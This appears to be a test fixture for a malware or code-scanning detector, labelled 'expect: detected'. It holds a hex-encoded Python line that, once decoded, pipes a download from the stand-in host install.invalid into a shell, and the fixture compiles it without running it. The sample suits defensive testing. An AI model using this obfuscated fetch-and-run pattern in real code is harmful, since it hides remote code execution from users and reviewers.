# tries: run a program that is written in hexadecimal
# expect: detected
payload = bytes.fromhex("696d706f7274206f733b6f732e73797374656d28226375726c20687474703a2f2f696e7374616c6c2e696e76616c69642f6d207c2073682229").decode()
if len(payload) > 10:
    print(len(payload))
    compile(payload, "x", "exec")
